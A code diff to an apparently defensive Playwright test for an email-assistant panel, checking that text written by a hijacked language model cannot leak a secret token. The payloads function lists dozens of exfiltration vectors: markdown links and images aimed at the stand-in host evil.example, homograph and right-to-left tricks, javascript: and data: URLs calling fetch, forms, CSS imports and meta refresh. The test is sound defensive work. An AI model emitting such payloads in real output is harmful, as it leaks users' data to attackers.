@@ -14,7 +14,7 @@ import { ready } from "./src/steps.ts";
 const SECRET = "TULIP-7731";
 
 /** Ways to get the secret to this place, each of which would be a request of the browser, a page, or something to press. */
-function payloads(to: string): string[] {
+function payloads(to: string, evil = "evil.example"): string[] {
   const url = `${to}/?d=${SECRET}`;
   const host = new URL(to).host;
   return [
@@ -31,13 +31,13 @@ function payloads(to: string): string[] {
     `[no slashes](https:${host}/?d=${SECRET})`,
     `[no scheme](//${host}/?d=${SECRET})`,
     `[credentials](https://${SECRET}@${host}/)`,
-    `[sub-domain](https://${SECRET}.evil.example/)`,
-    `[punycode](https://xn--${SECRET.toLowerCase()}-fla.example/)`,
-    `[homograph](https://еvil.example/${SECRET})`,
-    `[right to left \u202e](https://evil.example/${SECRET})`,
+    `[sub-domain](https://${SECRET}.${evil}/)`,
+    `[punycode](https://xn--${SECRET.toLowerCase()}-fla.${evil}/)`,
+    `[homograph](https://е${evil}/${SECRET})`,
+    `[right to left \u202e](https://${evil}/${SECRET})`,
     `[script](javascript:fetch('${url}'))`,
     `[data](data:text/html,<script>fetch('${url}')</script>)`,
-    `[mail](mailto:eve@evil.example?body=${SECRET})`,
+    `[mail](mailto:eve@${evil}?body=${SECRET})`,
     `[extension](chrome-extension://${"a".repeat(32)}/${SECRET})`,
     `[citation](vaultdesk-message:${SECRET})`,
     `[msg:${SECRET}]`,
@@ -46,7 +46,7 @@ function payloads(to: string): string[] {
     `<svg><image href="${url}"/><script href="${url}"/></svg>`,
     `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}">`,
     `<form action="${url}" method="post"><button autofocus>Go</button></form>`,
-    `<link rel="prefetch" href="${url}"><link rel="dns-prefetch" href="//${SECRET}.evil.example">`,
+    `<link rel="prefetch" href="${url}"><link rel="dns-prefetch" href="//${SECRET}.${evil}">`,
     `<style>@import url(${url}); * { background: url(${url}) }</style>`,
     `<p style="background:url(${url})">styled</p>`,
     `<meta http-equiv="refresh" content="0;url=${url}"><base href="${url}">`,
@@ -131,7 +131,11 @@ test("nothing that a hijacked model writes loads, opens, submits or links anythi
       answer,
     ]),
   );
-  await ask(panel, `Write to ${ANA_MAIL}. ${hostile}`.slice(0, 19_000));
+  // Other addresses than the answer's: what a person wrote may be a link.
+  await ask(
+    panel,
+    `Write to ${ANA_MAIL}. ${payloads("https://title.example", "title.example").join(" ")}`,
+  );
   await expect(panel.getByTestId("draft-card")).toBeVisible();
   await expect(panel.getByTestId("answer").last()).toContainText(`Way ${ways.length}`);
   expect(await suspects(panel)).toEqual([]);
@@ -157,11 +161,9 @@ test("nothing that a hijacked model writes loads, opens, submits or links anythi
     ]);
     return JSON.stringify([local, session, badge]);
   });
-  const ofPanel = await panel.evaluate(() =>
-    JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.title]),
-  );
+  // The panel itself has no storage: in Gmail's page the browser denies it.
   expect(kept).not.toContain(SECRET);
-  expect(ofPanel).not.toContain(SECRET);
+  expect(await panel.evaluate(() => document.title)).not.toContain(SECRET);
   expect(await page.content()).not.toContain(SECRET);
   const heard = await page.evaluate(() => JSON.stringify(Reflect.get(globalThis, "heard")));
   expect(heard).not.toContain(SECRET);
